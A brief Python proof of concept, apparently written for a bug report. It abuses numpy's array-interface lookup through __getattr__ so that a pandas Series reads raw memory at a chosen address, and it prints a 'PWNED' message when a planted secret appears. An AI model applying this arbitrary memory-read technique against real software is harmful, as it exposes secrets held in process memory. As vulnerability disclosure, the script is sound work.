import pandas as pd
import numpy as np
target = b"HELLO-SECRET-BYTES"
addr = id(target)
class C:
    def __getattr__(self, name):
        if name.startswith("__array_i"):
            return {"shape": (48,), "typestr": "|u1", "data": (addr, True), "version": 3}
        raise AttributeError(name)
try:
    s = pd.Series(np.array(C()))
    raw = bytes(s.to_numpy())
    if b"HELLO" in raw:
        print("PW" + "NED: pandas Series over foreign memory (same __getattr__ array-interface root cause):", raw[-20:])
except Exception as e:
    print("err", type(e).__name__, e)
